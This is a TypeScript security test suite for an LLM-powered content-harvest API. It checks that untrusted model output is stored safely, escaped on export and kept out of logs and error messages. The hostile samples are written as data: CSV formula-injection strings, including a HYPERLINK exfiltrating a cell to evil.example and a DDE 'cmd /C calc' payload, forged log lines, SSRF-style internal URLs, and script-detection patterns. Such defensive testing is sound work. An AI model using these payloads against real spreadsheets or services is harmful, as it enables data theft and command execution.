import { send } from '@harvest/testkit/site-answer';
import { htmlPage } from '@harvest/testkit/site-pages';
import { problemSchema } from '@harvest/contracts/problem';
import { type RawAnswer, readProblem } from '../harness/api-client.ts';
import { dumpRedis } from '../harness/hiding-places.ts';
import { RemoteClient } from './remote-client.ts';
import { harmfulTexts, orders, rubbishMark } from './fake-providers.ts';
import type { SecuredSystem } from './secured-system.ts';
import type { Statement } from './statement.ts';

const source = 'The dam was built in 1931. Nobody lives below it.';
const ask = (query: string, provider = 'openai') => ({ source, query, options: { provider } });
const chatOf = ({ openai }: SecuredSystem, content: string) => ({
  model: `openai/${openai.model}`,
  messages: [{ role: 'user', content }],
  harvest: { cache: 'exact' },
});

/** What would tell of the inside: stacks, files, modules, addresses and libraries. */
const inside = [
  /\n\s+at |\bat \w+ \(|node_modules|node:internal|\.ts:\d|file:\/\/\/(?!etc)/,
  /127\.0\.0\.1|localhost:\d|\[::1\]|ECONN|ENOTFOUND|EPIPE|EAI_/,
  /\bredis\b|bullmq|\bzod\b|undici|ReplyError|TypeError|WRONGTYPE|evalsha/i,
  new RegExp(process.cwd()),
];

function insideOf(text: string): readonly string[] {
  return inside.flatMap((pattern) => pattern.exec(text)?.[0] ?? []);
}

/** Control characters, line ends of Unicode and marks that turn the direction of writing. */
const unsafeInLog = /[\p{Cc}\p{Zl}\p{Zp}\u202a-\u202e\u2066-\u2069]/u;

async function badAnswersAreNotStored(system: SecuredSystem): Promise<void> {
  const { client } = await system.createHolder();
  const quiz = {
    source,
    query: `${orders.rubbish}.`,
    output_format: 'quiz',
    options: { provider: 'openai', cache: 'exact' },
  };
  const calls = (): number =>
    system.openai.requests.filter(({ body }) => JSON.stringify(body).includes(orders.rubbish)).length;
  const seen: number[] = [];
  for (let turn = 0; turn < 2; turn += 1) {
    const task = await client.acceptAndWait(quiz);
    expect(task).toMatchObject({ status: 'failed', result: null });
    expect(JSON.stringify(task)).not.toContain(rubbishMark);
    seen.push(calls());
  }
  // Nothing was kept to answer the second one with.
  expect(seen[1]).toBe(2 * (seen[0] ?? 0));
  for (const stream of [false, true]) {
    const chat = await client.request('POST', '/chat/completions', {
      body: { ...chatOf(system, `${orders.garble}.`), stream },
    });
    expect(JSON.stringify(chat.body)).toMatch(/provider\.(?:invalid_response|stream_interrupted)/);
  }
  const kept = [...(await dumpRedis(system.lookoutUrl))].filter(([name]) =>
    /:(?:result|answers?|documents|text)/.test(name),
  );
  expect(kept.length).toBeGreaterThan(5);
  expect(kept.filter(([, text]) => text.includes(rubbishMark)).map(([name]) => name)).toEqual([]);
}

async function outputStaysText(system: SecuredSystem): Promise<void> {
  const { client } = await system.createHolder();
  const before = system.trap.connections();
  const harmful = harmfulTexts(system.trap.port);
  const task = await client.acceptAndWait(ask(`${orders.execute}.`));
  expect(task.status).toBe('completed');
  const chat = await client.request('POST', '/chat/completions', {
    body: chatOf(system, `${orders.execute}.`),
  });
  const { choices } = chat.body as { choices: { message: { content: string } }[] };
  // To the letter: nothing was calculated, put in or left out.
  for (const text of harmful) {
    expect(task.result?.text).toContain(text);
    expect(choices[0]?.message.content).toContain(text);
  }
  const exported = async (format: string): Promise<string> => {
    const answer = await client.request('GET', `/harvest/${task.task_id}/export?format=${format}`);
    expect([format, answer.status]).toEqual([format, 200]);
    expect(answer.headers.get('content-disposition')).toMatch(/^attachment/);
    return typeof answer.body === 'string' ? answer.body : JSON.stringify(answer.body);
  };
  const html = await exported('html');
  expect(html).toContain('{{7*7}}');
  expect(html).toContain('&lt;script');
  expect(
    html.match(/<(?:script|img|iframe|link|object|embed)\b|\bonerror="|href="javascript:|src="http/gi),
  ).toBeNull();
  for (const format of ['md', 'pdf', 'docx', 'json']) {
    const file = await exported(format);
    expect(file).not.toMatch(
      /\/JavaScript|\/Launch|\/URI ?\(javascript|TargetMode="External" Target="javascript/,
    );
    if (format === 'json') expect(file).toContain(JSON.stringify(harmful[0]).slice(1, -1));
  }
  const events = await client.request('GET', `/harvest/${task.task_id}/events`);
  expect(String(events.body)).toContain('{{7*7}}');
  expect(system.trap.connections()).toBe(before);
}

/** Requests that are refused, each for a reason of its own. */
const refusedRequests: readonly [method: string, path: string, body?: unknown][] = [
  ['GET', '/nowhere'],
  ['GET', '/%zz'],
  ['DELETE', '/tasks'],
  ['GET', '/tasks?limit=x'],
  ['GET', '/tasks?cursor=%00'],
  ['GET', '/harvest/nope'],
  ['GET', `/harvest/tsk_${'0'.repeat(26)}`],
  ['GET', '/admin/tenants'],
  ['GET', `/${'a'.repeat(9_000)}`],
  ['POST', '/harvest', 'text'],
  ['POST', '/harvest', []],
  ['POST', '/harvest', { source: 'http://127.1/', query: 7 }],
  ['POST', '/harvest/batch', {}],
  ['POST', '/webhooks', { url: 'https://10.0.0.1/' }],
  ['PUT', '/keys/openai', {}],
  ['POST', '/harvest', { ...ask('When?'), options: { provider: 'openai', local_only: true } }],
  ['GET', '/usage?from=yesterday'],
  ['POST', '/validate-key', {}],
];

/** What an API says whose Redis is not there. */
async function problemWithoutRedis({ bench }: SecuredSystem): Promise<RawAnswer> {
  const lost = bench.launch({
    name: 'api-without-redis',
    script: 'apps/api/src/main.ts',
    env: { REDIS_URL: 'redis://127.0.0.1:1', PORT: '0', METRICS_PORT: '0', AUTH: 'none' },
  });
  const { url } = await lost.waitForLog('listening');
  const answer = await new RemoteClient(String(url)).request('POST', '/harvest', { body: ask('When?') });
  await lost.terminate();
  expect(answer.status).toBe(503);
  return answer;
}

async function problemsTellNothing(system: SecuredSystem): Promise<void> {
  const { client } = await system.createHolder();
  const problems: RawAnswer[] = [];
  for (const [method, path, body] of refusedRequests)
    problems.push(await client.request(method, path, body === undefined ? {} : { body }));
  problems.push(await system.stranger.request('GET', '/tasks'));
  problems.push(await problemWithoutRedis(system));
  for (const each of problems) {
    expect([each.status, problemSchema.safeParse(each.body).error]).toEqual([each.status, undefined]);
    expect([each.status, insideOf(JSON.stringify([each.body, [...each.headers]]))]).toEqual([
      each.status,
      [],
    ]);
  }
  expect(new Set(problems.map((each) => readProblem(each).code)).size).toBeGreaterThan(12);
  // The errors of tasks are seen by the same people.
  for (const query of ['When?', `${orders.refusal}.`]) {
    const failed = await client.acceptAndWait(ask(query, query === 'When?' ? 'gemini' : 'openai'));
    expect(failed).toMatchObject({
      status: 'failed',
      error: { code: expect.stringMatching(/^provider\./) as unknown },
    });
    expect(insideOf(JSON.stringify(failed.error))).toEqual([]);
  }
}

async function logsAndExportsAreSafe(system: SecuredSystem): Promise<void> {
  const { client } = await system.createHolder();
  const forged =
    '\r\n{"level":"error","message":"forged"}\n\u001b[31mforged\u001b[0m\u2028forged\u202eforged';
  await client.request('GET', `/harvest/${encodeURIComponent(forged)}`);
  await client.request('GET', `/tasks/${encodeURIComponent(forged)}?cursor=${encodeURIComponent(forged)}`);
  await client.request('GET', '/tasks', {
    headers: { 'x-request-id': 'a"},{"message":"forged', 'user-agent': 'x\t"forged' },
  });
  await client.request('POST', '/harvest', { body: { ...ask(forged), [forged]: forged } });
  await client.request('POST', '/webhooks', {
    body: { url: `https://example.com/${forged}`, description: forged },
  });
  await client.acceptAndWait({
    source: `http://inside.hostile.example/${encodeURIComponent(forged)}`,
    output_format: 'summary',
  });
  await system.admin.client.request('POST', '/admin/keys', {
    body: { tenant: forged, name: forged, scopes: [forged] },
  });
  const processes = [system.api, system.other, system.worker].map(({ process }) => process);
  for (const { stdoutLines } of processes) {
    expect(stdoutLines.filter((line) => unsafeInLog.test(line))).toEqual([]);
    const messages = stdoutLines.map((line) => (JSON.parse(line) as { message: unknown }).message);
    expect(messages.filter((message) => String(message).includes('forged'))).toEqual([]);
  }
  expect(system.logLines().some((line) => line.includes('forged'))).toBe(true);

  const formulas = [
    '=HYPERLINK("http://evil.example/?"&A1)',
    "+cmd|' /C calc'!A0",
    '@SUM(1+1)',
    '-2+3',
    '\t=1+1',
    '＝1+1',
  ];
  for (const [index, title] of formulas.entries()) {
    const body = `<article><h1>On dams</h1><p>${'The dam was built in 1931. It is high, and nobody lives below it. '.repeat(5)}</p></article>`;
    system.site.answerWith(`/formula-${String(index)}`, send(htmlPage({ title, body })));
  }
  const pages = formulas.map((_, index) => `${system.site.origin}/formula-${String(index)}`);
  const task = await client.acceptAndWait({ source: pages, output_format: 'dedup' });
  expect(task.status).toBe('completed');
  const csv = String((await client.request('GET', `/harvest/${task.task_id}/export?format=csv`)).body);
  for (const formula of formulas) expect(csv).toContain(`'${formula.trim().replaceAll('"', '""')}`);
  expect(csv.match(/(?:^|[,\n])"?\s*[=+\-@＝]/gm)).toBeNull();
}

/** Statements 36 to 39. */
export const untrustedOutput: readonly Statement[] = [
  {
    number: 36,
    promise: 'provider responses are validated before they are stored: one that is not valid never is',
    prove: badAnswersAreNotStored,
  },
  {
    number: 37,
    promise: 'model output is never evaluated, used as a template or as a URL',
    prove: outputStaysText,
  },
  { number: 38, promise: 'problem details carry no stack and no host', prove: problemsTellNothing },
  {
    number: 39,
    promise: 'log injection is encoded, and exports are safe (CSV formulas, HTML)',
    prove: logsAndExportsAreSafe,
  },
];
